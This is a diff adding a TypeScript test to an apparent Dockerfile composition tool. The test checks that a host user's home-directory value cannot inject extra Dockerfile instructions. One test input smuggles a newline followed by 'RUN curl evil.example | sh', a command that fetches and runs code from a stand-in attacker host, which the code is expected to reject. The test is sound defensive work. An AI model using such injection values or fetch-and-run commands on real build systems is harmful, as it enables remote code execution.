@@ -164,3 +164,12 @@ test('an extension whose builder stage would take the shared builder base stage 
     "extension 'base' would name its builder stage rockts-builder-base, which is the name of a shared builder base stage; rename the extension",
   );
 });
+
+test('host user values cannot add Dockerfile text', () => {
+  const available = [fakeExtension({ name: 'a', setup: 'RUN echo {{user.home}}' })];
+  const compose_ = (home: string) =>
+    compose({ config: fakeConfig('ubuntu:24.04', ['a']), available, byPath: new Map(), rocktsVersion: '0', hostUser: { name: 'dev', uid: 1, gid: 1, home } });
+  expect(() => compose_('/home/dev\nRUN curl evil.example | sh')).toThrow("the host user's home");
+  expect(() => compose_('relative/home')).toThrow('is not an absolute path');
+  expect(compose_('/home/dev').dockerfile).toContain('RUN echo /home/dev');
+});
